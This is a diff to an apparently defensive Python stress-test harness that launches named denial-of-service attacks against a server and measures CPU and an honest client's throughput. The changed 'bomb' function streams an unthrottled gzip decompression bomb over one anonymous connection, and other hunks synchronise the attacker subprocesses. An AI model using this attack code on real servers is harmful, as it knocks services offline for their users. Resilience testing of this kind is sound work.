@@ -95,21 +95,16 @@ async def asking(target, count, body, **extra):
 
 
 async def bomb(target):
-    """compressed bomb at 196 kB/s, one anonymous connection"""
+    """compressed bomb, one anonymous connection"""
     squeeze = zlib.compressobj(wbits=31)
     first = squeeze.compress(bytes(1 << 26)) + squeeze.flush(zlib.Z_FULL_FLUSH)
     more = squeeze.compress(bytes(1 << 26)) + squeeze.flush(zlib.Z_FULL_FLUSH)  # begins anew: can be sent again and again
 
     async def one():
-        reader, writer = await target.connect(target.head("content-encoding: gzip", length=10**9, key=False))
-        piece, sent = first, 0
+        reader, writer = await target.connect(target.head("content-encoding: gzip", length=10**9, key=False) + first)
         while not reader.at_eof():
-            writer.write(piece[sent : sent + 19_600])
+            writer.write(more)
             await writer.drain()
-            sent += 19_600
-            if sent >= len(piece):
-                piece, sent = more, 0
-            await asyncio.sleep(0.1)
 
     await many(1, one)
 
@@ -357,9 +352,10 @@ async def measure(fleet, name, honest, key, seconds):
     before = await honest.watch(seconds)
     quiet = await engine_cpu(fleet)
     command = [sys.executable, __file__, "--attack", name, "--target", host, port, key]
-    attackers = [subprocess.Popen(command) for _ in range(PROCESSES.get(attack, 1))]
+    attackers = [subprocess.Popen(command, stdout=subprocess.PIPE) for _ in range(PROCESSES.get(attack, 1))]
     try:
-        await asyncio.sleep(1)  # Python starts
+        for attacker in attackers:
+            await asyncio.to_thread(attacker.stdout.readline)  # it is about to begin
         during = await honest.watch(seconds)
     finally:
         for attacker in attackers:
@@ -409,6 +405,7 @@ def main():
     options = parser.parse_args()
     if options.attack:
         host, port, key = options.target
+        print("beginning", flush=True)
         asyncio.run(ATTACKS[options.attack](Target(host, int(port), key)))
         return
     resource.setrlimit(resource.RLIMIT_NOFILE, (DESCRIPTORS, DESCRIPTORS))
